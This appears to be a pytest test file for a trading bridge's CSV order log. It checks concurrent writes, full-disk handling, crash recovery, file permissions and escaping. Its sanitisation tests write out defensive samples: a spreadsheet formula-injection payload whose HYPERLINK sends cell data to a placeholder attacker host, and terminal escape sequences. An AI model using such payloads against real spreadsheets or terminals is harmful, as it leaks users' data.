"""The CSV order log: rows of concurrent alerts are never lost, torn or interleaved; a refused write is an error."""

from __future__ import annotations

import asyncio
import csv
import fcntl
import io
import os
import resource
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import attrs
import pytest
from helpers import ClientFactory, alert, leg, refusing_writes, with_accounts

from tvbridge.config import Config
from tvbridge.models import LegResult, LegStatus
from tvbridge.orderlog import COLUMNS, OrderLog


def result(n: int, leg: int) -> LegResult:
    return LegResult(
        leg_number=leg,
        account="paper",
        broker="paper",
        symbol=f"SYM{n}",
        exchange="NSE",
        transaction="B",
        quantity=str(n),
        order_type="MKT",
        product_type="C",
        price="0",
        status=LegStatus.SUCCESS,
        message=f"alert {n}, leg {leg}",
        order_id=f"PAPER-{n:06d}",
    )


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


async def test_concurrent_alerts_each_get_their_rows_together_and_in_the_file_when_append_returns(
    tmp_path: Path,
) -> None:
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()

    async def one(n: int) -> None:
        await log.append([result(n, 1), result(n, 2)], alert_id=f"A{n}", alert_type="multi_leg_order")
        mine = [row for row in rows(path) if row["alert_id"] == f"A{n}"]  # on disk as soon as append returns
        assert [row["leg_number"] for row in mine] == ["1", "2"]

    await asyncio.gather(*(one(n) for n in range(200)))
    await log.close()
    written = rows(path)
    assert len(written) == 400
    assert list(written[0].keys()) == list(COLUMNS)
    for first, second in zip(written[::2], written[1::2], strict=True):  # an alert's two rows are adjacent
        assert first["alert_id"] == second["alert_id"]
        assert (first["leg_number"], second["leg_number"]) == ("1", "2")
    assert sorted(row["alert_id"] for row in written[::2]) == sorted(f"A{n}" for n in range(200))


async def test_rows_handed_in_before_close_are_written(tmp_path: Path) -> None:
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    appends = [log.append([result(n, 1)], alert_id=f"A{n}", alert_type="x") for n in range(20)]
    await asyncio.gather(*appends, log.close())  # close is scheduled after every append has handed its rows in
    assert len(rows(path)) == 20


async def test_a_write_the_disk_refuses_raises_rather_than_passing_for_written(tmp_path: Path) -> None:
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    await log.append([result(1, 1)], alert_id="A1", alert_type="x")
    try:
        with refusing_writes(path), pytest.raises(OSError, match="No space left"):
            await log.append([result(2, 1)], alert_id="A2", alert_type="x")
    finally:
        await log.close()
    assert [row["alert_id"] for row in rows(path)] == ["A1"]


async def test_a_write_cut_short_by_a_full_disk_leaves_no_half_row(tmp_path: Path) -> None:
    """The disk fills in the middle of a row: that alert's rows fail whole, and the next alert's row is intact
    (not glued to half a row). The file-size limit stands in for the full disk (Python ignores SIGXFSZ)."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    await log.append([result(1, 1)], alert_id="A1", alert_type="x")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (path.stat().st_size + 40, hard))  # room for part of a row
    try:
        with pytest.raises(OSError, match="too large"):
            await log.append([result(2, 1), result(2, 2)], alert_id="A2", alert_type="x")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))  # space again
    await log.append([result(3, 1)], alert_id="A3", alert_type="x")
    await log.close()
    written = rows(path)
    assert [row["alert_id"] for row in written] == ["A1", "A3"]
    assert written[1]["message"] == "alert 3, leg 1"


async def test_a_half_row_that_cannot_be_taken_back_is_ended_before_the_next_row(tmp_path: Path) -> None:
    """Where even truncating fails (here the descriptor leads to a pipe, which has no size to cut), the next
    alert's rows start on a line of their own instead of continuing the half row."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    [descriptor] = [link for link in Path("/proc/self/fd").iterdir() if link.resolve() == path.resolve()]
    reader, writer = os.pipe()
    try:
        os.set_blocking(writer, False)
        capacity = fcntl.fcntl(writer, fcntl.F_GETPIPE_SZ)
        os.write(writer, b"x" * (capacity - 4096))  # one page free: a longer write is cut short there
        os.dup2(writer, int(descriptor.name))
        with pytest.raises(BlockingIOError):
            await log.append([result(2, leg) for leg in range(1, 60)], alert_id="A2", alert_type="x")
        written = b""
        while len(written) < capacity:
            written += os.read(reader, capacity - len(written))  # the padding and the half row: room again
        await log.append([result(3, 1)], alert_id="A3", alert_type="x")
        after = os.read(reader, 65536)
    finally:
        await log.close()
        os.close(reader)
        os.close(writer)
    assert not written.endswith(b"\n")  # the failed alert left part of a row
    assert after.startswith(b"\n")
    [row] = csv.DictReader(io.StringIO(after.decode().strip()), fieldnames=COLUMNS)
    assert (row["alert_id"], row["message"]) == ("A3", "alert 3, leg 1")


TEXT_FIELDS = (
    "account",
    "broker",
    "symbol",
    "exchange",
    "transaction",
    "quantity",
    "order_type",
    "product_type",
    "price",
    "message",
    "order_id",
    "client_order_id",
    "strategy",
)
"""Every text field of a result that reaches a cell; the alert's own text (symbol, message echoes) among them, and
the strategy's name (`[strategies.NAME]` allows a leading `-`)."""


def text_result(text: str) -> LegResult:
    changes: dict[str, Any] = dict.fromkeys(TEXT_FIELDS, text)
    return attrs.evolve(result(1, 1), **changes)


@pytest.mark.parametrize(
    ("start", "shown"),
    [("=", "="), ("+", "+"), ("-", "-"), ("@", "@"), ("\t", "\\t"), ("\r", "\\r")],
    ids=["equals", "plus", "minus", "at", "tab", "carriage return"],
)
async def test_every_formula_start_in_every_cell_is_written_as_text(tmp_path: Path, start: str, shown: str) -> None:
    """OWASP's six formula starts, in every cell an alert or a broker can fill: each cell gets a leading `'`, so a
    spreadsheet shows `=HYPERLINK(...)` instead of running it; the rest of the cell is kept (tab and CR as
    visible escapes)."""
    log = OrderLog(tmp_path / "orders.csv")
    await log.open()
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    await log.append([text_result(text)], alert_id=f"{start}ID", alert_type=f"{start}TYPE")
    await log.close()

    [row] = rows(tmp_path / "orders.csv")
    expected = f"'{shown}{text[1:]}"
    assert {column: row[column] for column in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, expected)
    assert (row["alert_id"], row["alert_type"]) == (f"'{shown}ID", f"'{shown}TYPE")


async def test_line_breaks_and_control_characters_are_written_as_visible_escapes(tmp_path: Path) -> None:
    """A symbol or broker message with line breaks, ESC sequences, NUL, DEL, C1 controls or Unicode line
    separators stays on its row: `wc -l` and `splitlines()` count one line per row, the csv module reads the same
    rows, and no control character but the row's own newline is in the file (a terminal running `tail -f` gets
    no escape sequence)."""
    nasty = "A\nB\r\nC\x1b[2J\x1b]0;pwned\x07D\x00E\x7fF\x85G\u2028H\u2029I\x0bJ\x0cK\x1cL"
    shown = "A\\nB\\r\\nC\\x1b[2J\\x1b]0;pwned\\x07D\\x00E\\x7fF\\x85G\\u2028H\\u2029I\\x0bJ\\x0cK\\x1cL"
    path = tmp_path / "orders.csv"
    log = OrderLog(path)
    await log.open()
    await log.append([text_result(nasty), result(2, 1)], alert_id="A1", alert_type="multi_leg_order")
    await log.append([result(3, 1)], alert_id="A2", alert_type="multi_leg_order")
    await log.close()

    raw = path.read_bytes()
    assert raw.count(b"\n") == 4  # the header and three rows
    text = raw.decode("utf-8")
    assert len(text.splitlines()) == 4
    assert all(char == "\n" or char.isprintable() for char in text)
    found = rows(path)
    assert [len(row) for row in found] == [len(COLUMNS)] * 3
    assert (found[0]["symbol"], found[0]["message"]) == (shown, shown)
    assert [row["symbol"] for row in found[1:]] == ["SYM2", "SYM3"]


async def test_an_alerts_symbol_cannot_break_a_row_or_run_as_a_formula(
    make_client: ClientFactory, config: Config
) -> None:
    """Through the real server: a symbol with a formula start, a line break and an ESC sequence, refused by the
    broker with a message that echoes it, is one row whose symbol and message read as text."""
    symbol = "@SUM(1+1)\n\x1b[2JEVIL"
    config = with_accounts(config, {"s": {"broker": "scripted", "reject_symbols": [symbol]}})
    client = await make_client(config)
    response = await client.post("/webhook", json=alert(leg(symbol=symbol), leg(symbol="INFY", sort_order="2")))
    assert response.status == 200
    path = config.data_path("webhook_orders.csv")
    text = path.read_text(encoding="utf-8")
    assert len(text.splitlines()) == 3  # the header, the refused leg, the skipped one
    assert "\x1b" not in text
    first, second = rows(path)
    assert first["symbol"] == "'@SUM(1+1)\\n\\x1b[2JEVIL"
    assert first["message"] == "'@SUM(1+1)\\n\\x1b[2JEVIL is not tradeable here"
    assert (first["status"], second["symbol"], second["status"]) == ("failed", "INFY", "skipped")


async def test_an_order_log_not_open_writes_nothing_and_says_so(tmp_path: Path) -> None:
    """Before `open()` and after `close()` the order log has no rows to offer (size 0), health reads "order log is
    not open" before it was ever opened, and a write is refused with "order log is closed", not lost quietly."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    assert (log.size(), log.problem()) == (0, "order log is not open")
    with pytest.raises(RuntimeError, match=r"^order log is closed$"):
        await log.append([result(1, 1)], alert_id="A1", alert_type="x")
    await log.open()
    assert log.size() == len(",".join(COLUMNS)) + 1  # the header
    await log.close()
    await log.close()  # twice is fine
    assert log.size() == 0
    with pytest.raises(RuntimeError, match=r"^order log is closed$"):
        await log.append([result(1, 1)], alert_id="A1", alert_type="x")
    assert [row["alert_id"] for row in rows(path)] == []


async def test_the_order_log_is_created_private_in_a_new_directory(tmp_path: Path) -> None:
    """A data directory that does not exist yet is made, and the order log in it is readable by its owner only
    (mode 0600, whatever the umask)."""
    path = tmp_path / "new" / "data" / "webhook_orders.csv"
    old = os.umask(0o022)
    try:
        log = OrderLog(path)
        await log.open()
        await log.close()
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.read_text().splitlines() == [",".join(COLUMNS)]


async def test_an_order_log_that_cannot_take_its_header_fails_to_open(tmp_path: Path) -> None:
    """Opening on a full disk (the header cannot be written) raises the disk's error, and the log stays closed."""
    path = tmp_path / "webhook_orders.csv"
    path.symlink_to("/dev/full")
    log = OrderLog(path)
    with pytest.raises(OSError, match="No space left"):
        await log.open()
    assert log.size() == 0
    with pytest.raises(RuntimeError, match="order log is closed"):
        await log.append([result(1, 1)], alert_id="A1", alert_type="x")


async def test_a_row_without_order_ids_has_empty_cells_and_a_utc_time(tmp_path: Path) -> None:
    """A leg that never got an order id (refused before sending) has empty `order_id` and `client_order_id`
    cells, and every row's time is UTC with its offset, so rows from servers in different zones sort together."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    refused = attrs.evolve(result(1, 1), status=LegStatus.FAILED, order_id=None, client_order_id=None)
    before = datetime.now(UTC)
    await log.append([refused], alert_id="A1", alert_type="x")
    await log.close()
    [row] = rows(path)
    assert (row["order_id"], row["client_order_id"], row["status"]) == ("", "", "failed")
    assert row["timestamp"].endswith("+00:00")
    assert before <= datetime.fromisoformat(row["timestamp"]) <= datetime.now(UTC)


async def test_rows_written_a_few_bytes_at_a_time_arrive_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The operating system may take part of a write (a signal, a pipe): the rest follows, once, in order, so
    the file holds exactly the rows, as if written at once, and nothing is written after them (a loop that
    miscounts what was written fails here at once instead of writing forever)."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    real_write = os.write
    calls = 0

    def short_write(fd: int, data: bytes) -> int:
        nonlocal calls
        calls += 1
        if not data or calls > 1000:  # the rows are about 200 bytes: they were written long ago
            message = f"write call {calls} of {len(data)} bytes after the rows were written"
            raise AssertionError(message)
        return real_write(fd, data[:7])

    monkeypatch.setattr(os, "write", short_write)
    await log.append([result(1, 1), result(1, 2)], alert_id="A1", alert_type="x")
    monkeypatch.undo()
    await log.close()
    assert calls > 10
    assert [(row["alert_id"], row["leg_number"], row["message"]) for row in rows(path)] == [
        ("A1", "1", "alert 1, leg 1"),
        ("A1", "2", "alert 1, leg 2"),
    ]


async def test_logged_since_reads_the_outcomes_written_from_an_offset(tmp_path: Path) -> None:
    """What crash recovery reads back: (alert id, account, leg) of each row written at or after the offset that
    records an outcome; a `queued` placeholder and a torn row do not count (the header reads as a row of no alert); a file shorter than the
    offset (replaced since) is read whole; a missing file has none."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    assert log.logged_since(0) == set()  # no file yet
    await log.open()
    await log.append([result(1, 1)], alert_id="A1", alert_type="x")
    offset = log.size()
    queued = attrs.evolve(result(2, 2), status=LegStatus.QUEUED)
    await log.append([result(2, 1), queued], alert_id="A2", alert_type="x")
    await log.close()
    with path.open("ab") as f:
        f.write(b"2026-12-06T00:00:00+00:00,torn row cut in a character \xe2\x82\n")  # a crash mid-write
    end = path.stat().st_size
    await log.open()
    await log.append([result(3, 1)], alert_id="A3", alert_type="x")  # rows after the torn one still count
    await log.close()
    header = ("alert_id", "account", "leg_number")
    assert log.logged_since(offset) == {("A2", "paper", "1"), ("A3", "paper", "1")}
    assert log.logged_since(0) == {header, ("A1", "paper", "1"), ("A2", "paper", "1"), ("A3", "paper", "1")}
    assert log.logged_since(end) == {("A3", "paper", "1")}
    assert log.logged_since(path.stat().st_size) == set()
    assert len(log.logged_since(path.stat().st_size + 1)) == 4  # the header and three rows


async def test_rows_after_a_file_that_ends_mid_row_start_on_a_line_of_their_own(tmp_path: Path) -> None:
    """A power loss or a hand edit can leave the file ending in the middle of a row (no line break): the rows
    of the next start begin on a new line, so csv readers and crash recovery (`logged_since`) see them, instead of
    a row glued to the torn one that no reader takes for the alert's."""
    path = tmp_path / "webhook_orders.csv"
    log = OrderLog(path)
    await log.open()
    await log.append([result(1, 1)], alert_id="A1", alert_type="x")
    await log.close()
    with path.open("ab") as f:
        f.write(b"2026-12-06T00:00:00+00:00,multi_leg_order,INF")  # cut short
    await log.open()
    offset = log.size()
    await log.append([result(2, 1)], alert_id="A2", alert_type="x")
    await log.close()
    lines = path.read_bytes().split(b"\n")
    assert (len(lines), lines[2], lines[4]) == (5, b"2026-12-06T00:00:00+00:00,multi_leg_order,INF", b"")
    assert [row["alert_id"] for row in rows(path)] == ["A1", None, "A2"]
    assert log.logged_since(offset) == {("A2", "paper", "1")}
